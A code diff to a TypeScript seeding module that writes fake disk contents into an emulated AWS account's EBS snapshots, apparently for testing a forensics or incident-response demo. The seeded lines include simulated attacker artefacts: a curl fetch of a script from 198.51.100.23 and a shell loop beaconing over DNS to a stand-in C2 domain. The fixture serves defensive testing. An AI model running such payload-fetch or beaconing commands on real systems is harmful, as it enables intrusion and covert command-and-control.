@@ -1,8 +1,15 @@
+import { createHash } from 'node:crypto';
 import {
   AttachInstancesCommand,
   AutoScalingClient,
   CreateAutoScalingGroupCommand,
 } from '@aws-sdk/client-auto-scaling';
+import {
+  CompleteSnapshotCommand,
+  EBSClient,
+  PutSnapshotBlockCommand,
+  StartSnapshotCommand,
+} from '@aws-sdk/client-ebs';
 import {
   AllocateAddressCommand,
   AssociateAddressCommand,
@@ -37,12 +44,69 @@ export interface SeededAccount {
   instanceId: string;
   networkInterfaceIds: string[];
   volumeIds: string[];
+  /**
+   * What each volume holds: the snapshot its content was written to through the EBS direct APIs (the
+   * volume was created from it), its size and the blocks written (index -> bytes); every other block
+   * reads as zeros.
+   */
+  disks: SeededDisk[];
   roleName: string;
   instanceProfileName: string;
   autoScalingGroupName: string;
   targetGroupArn: string;
   securityGroupId: string;
   elasticIp: string;
+}
+
+export interface SeededDisk {
+  contentSnapshotId: string;
+  sizeGiB: number;
+  blockSize: number;
+  blocks: Map<number, Buffer>;
+}
+
+/** Lines of a web server's disk an investigator would look for, and where they sit on the volume. */
+const diskLines = (device: string) => [
+  `cordon demo volume ${device}: ext4 superblock stand-in`,
+  'Nov 27 20:38:02 web-1 sshd[2114]: Accepted password for deploy from 198.51.100.23 port 50122 ssh2',
+  'Nov 27 20:38:40 web-1 sudo: deploy : COMMAND=/usr/bin/curl -s http://198.51.100.23/x.sh',
+  '#!/bin/sh\nwhile true; do dig +short $(hostname).c2.example.invalid TXT; sleep 60; done',
+];
+
+/**
+ * Writes a volume's content through the EBS direct APIs (StartSnapshot, PutSnapshotBlock with each
+ * block's SHA-256, CompleteSnapshot), so that the emulated account holds real bytes for it: a few
+ * blocks of text far apart, the rest of the volume holes. moto keeps blocks only for snapshots
+ * written this way.
+ */
+async function writeDisk(ebs: EBSClient, device: string, sizeGiB: number): Promise<SeededDisk> {
+  const started = await ebs.send(
+    new StartSnapshotCommand({ VolumeSize: sizeGiB, Description: `seeded content of ${device}` }),
+  );
+  const snapshotId = started.SnapshotId as string;
+  const blockSize = started.BlockSize as number;
+  const lines = diskLines(device);
+  const blocks = new Map<number, Buffer>();
+  // Spread out, so that the image has data and holes between them.
+  lines.forEach((line, i) => {
+    const block = Buffer.alloc(blockSize);
+    block.write(`${line}\n`);
+    blocks.set(i === 0 ? 0 : i * 1024 + 7, block);
+  });
+  for (const [index, data] of blocks) {
+    await ebs.send(
+      new PutSnapshotBlockCommand({
+        SnapshotId: snapshotId,
+        BlockIndex: index,
+        BlockData: data,
+        DataLength: blockSize,
+        Checksum: createHash('sha256').update(data).digest('base64'),
+        ChecksumAlgorithm: 'SHA256',
+      }),
+    );
+  }
+  await ebs.send(new CompleteSnapshotCommand({ SnapshotId: snapshotId, ChangedBlocksCount: blocks.size }));
+  return { contentSnapshotId: snapshotId, sizeGiB, blockSize, blocks };
 }
 
 export interface SeedOptions {
@@ -71,6 +135,7 @@ export async function seedAccount(endpoint: string, options: SeedOptions = {}): 
   const iam = new IAMClient(base);
   const autoscaling = new AutoScalingClient(base);
   const elbv2 = new ElasticLoadBalancingV2Client(base);
+  const ebs = new EBSClient(base);
 
   const vpc = await ec2.send(new CreateVpcCommand({ CidrBlock: '10.40.0.0/16' }));
   const vpcId = vpc.Vpc?.VpcId as string;
@@ -177,6 +242,13 @@ export async function seedAccount(endpoint: string, options: SeedOptions = {}): 
     new AddRoleToInstanceProfileCommand({ InstanceProfileName: instanceProfileName, RoleName: roleName }),
   );
 
+  // The smallest volumes EBS makes (1 GiB), so that a raw image of each is pulled and hashed in seconds.
+  const devices = Array.from({ length: options.volumes ?? 2 }, (_, i) =>
+    i === 0 ? '/dev/xvda' : `/dev/sd${String.fromCharCode(102 + i - 1)}`,
+  );
+  const disks: SeededDisk[] = [];
+  for (const device of devices) disks.push(await writeDisk(ebs, device, 1));
+
   const run = await ec2.send(
     new RunInstancesCommand({
       ImageId: 'ami-12c6146b',
@@ -189,9 +261,13 @@ export async function seedAccount(endpoint: string, options: SeedOptions = {}): 
         SubnetId: subnetIds[i % 2],
         Groups: [securityGroupId],
       })),
-      BlockDeviceMappings: Array.from({ length: options.volumes ?? 2 }, (_, i) => ({
-        DeviceName: i === 0 ? '/dev/xvda' : `/dev/sd${String.fromCharCode(102 + i - 1)}`,
-        Ebs: { VolumeSize: i === 0 ? 8 : 20, DeleteOnTermination: true },
+      BlockDeviceMappings: devices.map((device, i) => ({
+        DeviceName: device,
+        Ebs: {
+          SnapshotId: disks[i]?.contentSnapshotId,
+          VolumeSize: disks[i]?.sizeGiB,
+          DeleteOnTermination: true,
+        },
       })),
       TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Name', Value: 'web-1' }] }],
     }),
@@ -249,6 +325,7 @@ export async function seedAccount(endpoint: string, options: SeedOptions = {}): 
     instanceId,
     networkInterfaceIds,
     volumeIds,
+    disks,
     roleName,
     instanceProfileName,
     autoScalingGroupName,
